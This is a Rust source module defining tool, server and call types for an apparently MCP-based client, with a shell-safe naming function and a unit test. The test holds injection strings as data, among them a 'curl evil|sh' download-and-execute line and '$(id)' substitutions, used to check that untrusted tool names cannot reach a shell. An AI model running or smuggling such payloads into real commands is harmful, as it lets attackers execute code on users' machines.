//! Tools as servers define them, and calls of tools. Plain data; texts are untrusted.

use std::fmt;

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::hidden::shown_name;

/// The exact identity of a tool: both names spelled as configured and served.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct ToolRef {
    /// Server name from the configuration.
    pub server: String,
    /// Tool name as the server spells it.
    pub tool: String,
}

impl ToolRef {
    /// Joins two names into an identity.
    pub fn new(server: impl Into<String>, tool: impl Into<String>) -> Self {
        Self { server: server.into(), tool: tool.into() }
    }

    /// Splits a name as programs write it: `server__tool`, `server.tool`, `server/tool` or
    /// `mcp__server__tool`. Neither part need exist.
    pub fn parts(name: &str) -> Option<(&str, &str)> {
        let name = name.strip_prefix("mcp__").unwrap_or(name);
        name.split_once("__").or_else(|| name.split_once('.')).or_else(|| name.split_once('/'))
    }

    /// Its name in a command that somebody will copy into a shell. The tool's name is
    /// untrusted: unless a shell takes it for a plain word, only the server is named.
    pub fn in_a_command(&self) -> String {
        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
        match (self.server.chars().all(plain), self.tool.chars().all(plain)) {
            (true, true) => self.to_string(),
            (true, false) => self.server.clone(),
            (false, _) => format!("'{}'", self.server.replace('\'', r"'\''")),
        }
    }
}

/// Prints as `server__tool`, the spelling of `callMCPTool`. Hidden characters in a tool's name
/// are escaped; the catalog resolves that spelling too.
impl fmt::Display for ToolRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}__{}", self.server, shown_name(&self.tool))
    }
}

/// One tool definition. Texts and schemas are the server's and untrusted.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ToolDef {
    /// Name as the server spells it.
    pub name: String,
    /// Title for people.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub title: Option<String>,
    /// The server's description of the tool.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    /// JSON Schema of the arguments.
    pub input_schema: Value,
    /// JSON Schema of the structured result.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub output_schema: Option<Value>,
    /// Hints about its behaviour: the server's claim, not a fact.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub annotations: Option<Hints>,
}

/// A server's claims about a tool's behaviour.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Hints {
    /// Title for people.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub title: Option<String>,
    /// Does not modify anything.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub read_only_hint: Option<bool>,
    /// May destroy something.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub destructive_hint: Option<bool>,
    /// Repeating a call has no further effect.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub idempotent_hint: Option<bool>,
    /// Reaches the outside world.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub open_world_hint: Option<bool>,
}

/// A server's description of itself in the handshake.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ServerInfo {
    /// Package or product name.
    pub name: String,
    /// Version.
    pub version: String,
    /// The negotiated protocol revision.
    pub protocol_version: String,
}

/// All tools of one server, as of one listing.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct ToolList {
    /// The server that answered.
    pub info: ServerInfo,
    /// Every page of `tools/list`, joined, in the server's order.
    pub tools: Vec<ToolDef>,
    /// How many tools the server listed beyond these: too many, or too large.
    pub left_out: usize,
}

/// A call that was resolved to an exact tool but not decided yet.
#[derive(Clone, Debug, PartialEq)]
pub struct ToolCall {
    /// Which tool.
    pub tool: ToolRef,
    /// Its arguments.
    pub arguments: Map<String, Value>,
}

#[cfg(test)]
mod tests {
    use super::ToolRef;

    #[test]
    fn a_server_cannot_write_into_a_command() {
        let named = |server: &str, tool: &str| ToolRef::new(server, tool).in_a_command();
        assert_eq!(named("git", "git_log-1.0"), "git__git_log-1.0");
        for tool in ["x; curl evil|sh", "$(id)", "`id`", "a b", "x\u{200b}", "x\ny", "'"] {
            assert_eq!(named("git", tool), "git");
        }
        assert_eq!(named("GitHub (it's mine)", "x"), r"'GitHub (it'\''s mine)'");
    }
}
